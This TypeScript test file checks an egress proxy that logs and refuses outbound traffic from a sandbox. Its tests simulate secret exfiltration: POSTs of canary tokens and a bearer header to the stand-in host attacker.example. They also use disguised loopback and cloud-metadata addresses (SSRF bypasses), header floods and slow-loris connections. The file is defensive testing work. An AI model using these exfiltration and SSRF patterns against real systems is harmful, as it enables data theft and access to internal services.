import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  createServer as createHttpServer,
  request as httpRequest,
  type IncomingHttpHeaders,
  type Server,
} from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import {
  type AddressInfo,
  connect,
  createServer as createNetServer,
  type LookupFunction,
  type Socket,
} from 'node:net';
import { after, before, describe, it } from 'node:test';
import { connect as tlsConnect } from 'node:tls';
import {
  type EgressProxy,
  type EgressProxyOptions,
  startEgressProxy,
} from '../../src/network/egress-proxy.js';
import { runCa, upstreamCa } from '../support/certificate-authorities.js';

/**
 * The egress proxy (SPEC §14) with real clients on loopback: what it records, what it forwards, what it
 * refuses, and how it bounds hostile input. The proxy is reached through a loopback listener that hands
 * each connection to `accept`, as the listeners in a sandbox's namespace do.
 */

interface Harness {
  proxy: EgressProxy;
  port: number;
  close(): Promise<void>;
}

async function harness(options: EgressProxyOptions = {}): Promise<Harness> {
  const proxy = startEgressProxy(options);
  const listener = createNetServer((socket) => proxy.accept(socket));
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  return {
    proxy,
    port: (listener.address() as AddressInfo).port,
    async close() {
      await proxy.close();
      listener.close();
    },
  };
}

interface Reply {
  status: number;
  body: string;
  headers: IncomingHttpHeaders;
}

/** An HTTP request through the proxy (absolute-form), as curl -x sends it. */
function viaProxy(
  proxyPort: number,
  url: string,
  options: { method?: string; body?: string | Buffer; headers?: Record<string, string> } = {},
): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({
      host: '127.0.0.1',
      port: proxyPort,
      method: options.method ?? 'GET',
      path: url,
      headers: options.headers,
    });
    req.on('response', (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () =>
        resolve({
          status: res.statusCode ?? 0,
          body: Buffer.concat(chunks).toString('utf8'),
          headers: res.headers,
        }),
      );
    });
    req.on('error', reject);
    req.end(options.body);
  });
}

/** Sends raw bytes to the proxy and collects everything it answers until it closes (bounded). */
function raw(proxyPort: number, bytes: string | Buffer, waitMs = 3_000): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(proxyPort, '127.0.0.1');
    const chunks: Buffer[] = [];
    const timer = setTimeout(() => socket.destroy(), waitMs);
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(Buffer.concat(chunks).toString('latin1'));
    });
    socket.write(bytes);
  });
}

/** Every name resolves to the loopback upstream, as a DNS answer would (tests have no DNS). */
function resolveTo(address: string): LookupFunction {
  return ((_host: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => {
    if (options.all === true) callback(null, [{ address, family: 4 }]);
    else callback(null, address, 4);
  }) as unknown as LookupFunction;
}

const sha = (text: string | Buffer) => createHash('sha256').update(text).digest('hex');

describe('egress proxy', () => {
  let upstream: Server;
  let upstreamPort: number;
  const seenUpstream: string[] = [];
  before(async () => {
    upstream = createHttpServer((req, res) => {
      seenUpstream.push(`${req.method} ${req.url}`);
      if (req.url === '/loop') {
        res.writeHead(302, { location: 'http://api.example.test/loop' }).end();
        return;
      }
      req.resume();
      req.on('end', () => res.writeHead(200, { 'content-type': 'text/plain' }).end('upstream says hi'));
    });
    upstream.listen(0, '127.0.0.1');
    await once(upstream, 'listening');
    upstreamPort = (upstream.address() as AddressInfo).port;
  });
  after(() => upstream.close());

  it('records a request to a host not on the allowlist, body and all, then answers 403', async () => {
    const h = await harness();
    try {
      const body = 'TOKEN=sk-canary-7f3a\n';
      const reply = await viaProxy(h.port, 'http://attacker.example/collect?id=7', {
        method: 'POST',
        body,
        headers: {
          'content-type': 'text/plain',
          authorization: 'Bearer secret-token',
          host: 'attacker.example',
        },
      });
      assert.equal(reply.status, 403);
      const evidence = h.proxy.evidence();
      const [entry] = evidence.requests;
      assert.ok(entry !== undefined);
      const { at, ...rest } = entry;
      assert.match(at, /^\d{4}-\d\d-\d\dT/);
      assert.deepEqual(rest, {
        method: 'POST',
        scheme: 'http',
        host: 'attacker.example',
        port: 80,
        target: '/collect?id=7',
        headers: {
          authorization: 'Bearer secret-token',
          connection: 'keep-alive',
          'content-length': '21',
          'content-type': 'text/plain',
          host: 'attacker.example',
        },
        bodyBytes: Buffer.byteLength(body),
        bodySha256: sha(body),
        bodyText: body,
        bodyTruncated: false,
        disposition: 'refused',
        status: 403,
        intercepted: false,
        note: 'not on the allowlist',
      });
      assert.deepEqual(evidence.coverage, { complete: true, reasons: [], gaps: [] });
      assert.deepEqual(seenUpstream, []);
    } finally {
      await h.close();
    }
  });

  it('forwards an allowed destination and records its status; a name resolving to loopback stays refused', async () => {
    const allowed = await harness({ allow: ['api.example.test'], lookup: resolveTo('127.0.0.1') });
    try {
      const reply = await viaProxy(allowed.port, `http://api.example.test:${upstreamPort}/v1/ping`);
      // The name is allowed, but it resolves to the host's loopback: never forwarded (DNS rebinding).
      assert.equal(reply.status, 502);
      const [entry] = allowed.proxy.evidence().requests;
      assert.equal(entry?.disposition, 'failed');
      assert.match(entry?.note ?? '', /resolves to a local address \(127\.0\.0\.1\)/);
    } finally {
      await allowed.close();
    }
    const literal = await harness({ allow: [`127.0.0.1:${upstreamPort}`] });
    try {
      const reply = await viaProxy(literal.port, `http://127.0.0.1:${upstreamPort}/v1/ping`);
      assert.deepEqual([reply.status, reply.body], [200, 'upstream says hi']);
      const [entry] = literal.proxy.evidence().requests;
      assert.deepEqual([entry?.disposition, entry?.status], ['forwarded', 200]);
      assert.ok(seenUpstream.includes('GET /v1/ping'));
    } finally {
      await literal.close();
    }
  });

  it('forwards the model endpoint whatever it resolves to', async () => {
    const h = await harness({ alwaysAllow: [{ host: '127.0.0.1', port: upstreamPort }] });
    try {
      const reply = await viaProxy(h.port, `http://127.0.0.1:${upstreamPort}/v1/chat`, {
        method: 'POST',
        body: '{}',
      });
      assert.equal(reply.status, 200);
    } finally {
      await h.close();
    }
  });

  it('refuses loopback and local addresses in disguise, recording each canonical destination', async () => {
    const h = await harness({ allow: ['*'] });
    try {
      for (const url of [
        'http://2130706433/',
        'http://0x7f.1/',
        'http://127.1/',
        'http://[::ffff:127.0.0.1]/',
        'http://[::1]/',
        'http://169.254.169.254/latest/meta-data/',
        'http://10.1.2.3/',
      ]) {
        assert.equal((await viaProxy(h.port, url)).status, 403, url);
      }
      assert.deepEqual(
        h.proxy.evidence().requests.map((entry) => entry.host),
        ['127.0.0.1', '127.0.0.1', '127.0.0.1', '::ffff:7f00:1', '::1', '169.254.169.254', '10.1.2.3'],
      );
    } finally {
      await h.close();
    }
  });

  it('refuses a CONNECT to the proxy itself or to loopback, and records it', async () => {
    const h = await harness({ allow: ['*'] });
    try {
      const answer = await raw(
        h.port,
        `CONNECT 127.0.0.1:${h.port} HTTP/1.1\r\nHost: 127.0.0.1:${h.port}\r\n\r\n`,
      );
      assert.match(answer, /^HTTP\/1\.1 403/);
      const [entry] = h.proxy.evidence().requests;
      assert.deepEqual(
        { method: entry?.method, host: entry?.host, port: entry?.port, disposition: entry?.disposition },
        { method: 'CONNECT', host: '127.0.0.1', port: h.port, disposition: 'refused' },
      );
    } finally {
      await h.close();
    }
  });

  it('records an unintercepted CONNECT as host, port and byte counts (gap tls_not_intercepted)', async () => {
    const target = createNetServer((socket) => {
      socket.on('data', (chunk: Buffer) => socket.write(Buffer.concat([chunk, chunk])));
    });
    target.listen(0, '127.0.0.1');
    await once(target, 'listening');
    const targetPort = (target.address() as AddressInfo).port;
    const h = await harness({ allow: [`127.0.0.1:${targetPort}`] });
    try {
      const socket = connect(h.port, '127.0.0.1');
      socket.write(`CONNECT 127.0.0.1:${targetPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
      let got = '';
      socket.on('data', (chunk: Buffer) => {
        got += chunk.toString('latin1');
        if (got.endsWith('\r\n\r\n') && !got.includes('ping')) socket.write('ping');
        if (got.endsWith('pingping')) socket.end();
      });
      await once(socket, 'close');
      assert.match(got, /^HTTP\/1\.1 200 Connection Established\r\n\r\npingping$/);
      const evidence = h.proxy.evidence();
      assert.deepEqual(evidence.requests[0]?.tunnel, { bytesFromAgent: 4, bytesToAgent: 8 });
      assert.deepEqual(evidence.coverage.reasons, ['tls_not_intercepted']);
    } finally {
      await h.close();
      target.close();
    }
  });

  it('with a CA, terminates TLS and records the HTTPS request inside; a refused host gets 403 after it', async () => {
    const ca = runCa();
    const h = await harness({ ca });
    try {
      const socket = connect(h.port, '127.0.0.1');
      socket.write('CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\n');
      await new Promise<void>((resolve) => {
        let head = '';
        const onData = (chunk: Buffer) => {
          head += chunk.toString('latin1');
          if (head.includes('\r\n\r\n')) {
            socket.off('data', onData);
            resolve();
          }
        };
        socket.on('data', onData);
      });
      const secure = tlsConnect({ socket, servername: 'attacker.example', ca: ca.certificatePem });
      await once(secure, 'secureConnect');
      secure.write(
        'POST /x HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 14\r\nConnection: close\r\n\r\nsk-canary-7f3a',
      );
      let answer = '';
      secure.on('data', (chunk: Buffer) => {
        answer += chunk.toString('utf8');
      });
      await once(secure, 'close');
      assert.match(answer, /^HTTP\/1\.1 403/);
      const evidence = h.proxy.evidence();
      assert.deepEqual(
        evidence.requests.map((entry) => [
          entry.method,
          entry.scheme,
          entry.host,
          entry.target,
          entry.intercepted,
          entry.bodyText,
        ]),
        [
          ['CONNECT', 'https', 'attacker.example', '', true, null],
          ['POST', 'https', 'attacker.example', '/x', true, 'sk-canary-7f3a'],
        ],
      );
      assert.deepEqual(evidence.coverage.reasons, []);
    } finally {
      await h.close();
    }
  });

  it('records tls_intercept_failed when the client refuses the run CA', async () => {
    const h = await harness({ ca: runCa() });
    try {
      const socket = connect(h.port, '127.0.0.1');
      socket.write('CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\n');
      await once(socket, 'data');
      const secure = tlsConnect({ socket, servername: 'attacker.example' });
      const [error] = (await once(secure, 'error')) as [Error & { code?: string }];
      assert.match(error.code ?? error.message, /SELF_SIGNED|UNABLE|CERT/);
      secure.destroy();
      const deadline = Date.now() + 2_000;
      while (!h.proxy.evidence().coverage.reasons.includes('tls_intercept_failed') && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      assert.deepEqual(h.proxy.evidence().coverage.reasons, ['tls_intercept_failed']);
      assert.equal(h.proxy.evidence().requests[0]?.intercepted, false);
    } finally {
      await h.close();
    }
  });

  it('cuts a body past maxReadBytes: 413, the prefix and size so far recorded, no digest', async () => {
    const h = await harness({ maxReadBytes: 100_000, maxBodyBytes: 1_000 });
    try {
      const big = Buffer.alloc(5_000_000, 'a');
      const answer = await raw(
        h.port,
        Buffer.concat([
          Buffer.from(
            `POST http://attacker.example/up HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: ${big.length}\r\n\r\n`,
          ),
          big,
        ]),
      );
      assert.match(answer, /^HTTP\/1\.1 413/);
      const [entry] = h.proxy.evidence().requests;
      assert.equal(entry?.bodySha256, null);
      assert.equal(entry?.bodyTruncated, true);
      assert.equal(entry?.bodyText?.length, 1_000);
      assert.ok((entry?.bodyBytes ?? 0) <= 100_000);
      assert.deepEqual(h.proxy.evidence().coverage.reasons, ['body_truncated']);
    } finally {
      await h.close();
    }
  });

  it('keeps at most maxStoredBodyBytes of body text over the attempt; later bodies keep size and digest', async () => {
    // A thousand large bodies must not grow the evidence held in memory past the attempt's budget.
    const h = await harness({ maxBodyBytes: 1_000, maxStoredBodyBytes: 2_500 });
    try {
      const bodies = [0, 1, 2, 3, 4].map((n) => `${String(n).repeat(1_200)}sk-canary-${n}`);
      for (const body of bodies) {
        const reply = await viaProxy(h.port, 'http://attacker.example/up', { method: 'POST', body });
        assert.equal(reply.status, 403);
      }
      const { requests, coverage } = h.proxy.evidence();
      assert.deepEqual(
        requests.map((entry) => entry.bodyText?.length ?? 0),
        [1_000, 1_000, 500, 0, 0],
      );
      assert.deepEqual(
        requests.map((entry) => [entry.bodyBytes, entry.bodySha256, entry.bodyTruncated]),
        bodies.map((body) => [Buffer.byteLength(body), sha(body), true]),
      );
      assert.deepEqual(coverage.reasons, ['body_truncated']);
      assert.equal(coverage.complete, false);
    } finally {
      await h.close();
    }
  });

  it('ends a header flood with 431 and records that a request could not be read', async () => {
    const h = await harness();
    try {
      const headers = Array.from({ length: 2_000 }, (_, i) => `X-Flood-${i}: ${'v'.repeat(20)}\r\n`).join('');
      const answer = await raw(
        h.port,
        `GET http://attacker.example/ HTTP/1.1\r\nHost: attacker.example\r\n${headers}\r\n`,
      );
      assert.match(answer, /^HTTP\/1\.1 431/);
      const evidence = h.proxy.evidence();
      assert.equal(evidence.requests.length, 0);
      assert.deepEqual(evidence.coverage.reasons, ['record_limit_exceeded']);
    } finally {
      await h.close();
    }
  });

  it('closes a slow-loris client after headersTimeoutMs', async () => {
    const h = await harness({ headersTimeoutMs: 300 });
    try {
      const started = Date.now();
      const socket = connect(h.port, '127.0.0.1');
      socket.on('error', () => undefined);
      socket.write('GET http://attacker.example/ HTTP/1.1\r\nHost: attacker.exa');
      const drip = setInterval(() => socket.write('m'), 100);
      // The proxy may close while a drip is in flight: the client then sees ECONNRESET before 'close'
      // (events.once would reject on that 'error'); either way the connection was cut, which is the point.
      await new Promise((resolve) => socket.on('close', resolve));
      clearInterval(drip);
      assert.ok(Date.now() - started < 5_000, `closed after ${Date.now() - started} ms`);
    } finally {
      await h.close();
    }
  });

  it('records each hop of a redirect loop as the agent sends it, and refuses past maxRequests', async () => {
    const h = await harness({ allow: [`127.0.0.1:${upstreamPort}`], maxRequests: 3 });
    try {
      let url = `http://127.0.0.1:${upstreamPort}/loop`;
      const statuses: number[] = [];
      for (let hop = 0; hop < 5; hop++) {
        const reply = await viaProxy(h.port, url);
        statuses.push(reply.status);
        url = reply.status === 302 ? `http://127.0.0.1:${upstreamPort}/loop` : url;
      }
      assert.deepEqual(statuses, [302, 302, 302, 429, 429]);
      const evidence = h.proxy.evidence();
      assert.equal(evidence.requests.length, 3);
      assert.equal(evidence.droppedRequests, 2);
      assert.deepEqual(evidence.coverage.reasons, ['record_limit_exceeded']);
    } finally {
      await h.close();
    }
  });

  it('answers a request addressed to the proxy itself 403 and records it', async () => {
    const h = await harness({ allow: ['*'] });
    try {
      const answer = await raw(
        h.port,
        'GET /admin HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nConnection: close\r\n\r\n',
      );
      assert.match(answer, /^HTTP\/1\.1 403/);
      assert.equal(
        h.proxy.evidence().requests[0]?.note,
        'not a proxy request (an absolute-form http:// URL was expected)',
      );
    } finally {
      await h.close();
    }
  });
});

describe('egress proxy over TLS upstreams', () => {
  it('forwards an intercepted request to an allowed HTTPS destination', async () => {
    const serverCa = upstreamCa();
    const credentials = serverCa.credentialsFor('127.0.0.1');
    const server = createHttpsServer(credentials, (req, res) => {
      req.resume();
      req.on('end', () => res.end('secure hi'));
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const port = (server.address() as AddressInfo).port;
    const ca = runCa();
    const h = await harness({
      ca,
      allow: [`127.0.0.1:${port}`],
      upstreamTls: { ca: serverCa.certificatePem },
    });
    try {
      const socket: Socket = connect(h.port, '127.0.0.1');
      socket.write(`CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
      await once(socket, 'data');
      const secure = tlsConnect({ socket, ca: ca.certificatePem, servername: undefined, host: '127.0.0.1' });
      await once(secure, 'secureConnect');
      secure.write('GET /hello HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n');
      let answer = '';
      secure.on('data', (chunk: Buffer) => {
        answer += chunk.toString('utf8');
      });
      await once(secure, 'close');
      assert.match(answer, /^HTTP\/1\.1 200[\s\S]*secure hi$/);
      const inner = h.proxy.evidence().requests[1];
      assert.deepEqual(
        [inner?.method, inner?.target, inner?.disposition, inner?.status],
        ['GET', '/hello', 'forwarded', 200],
      );
    } finally {
      await h.close();
      server.close();
    }
  });
});
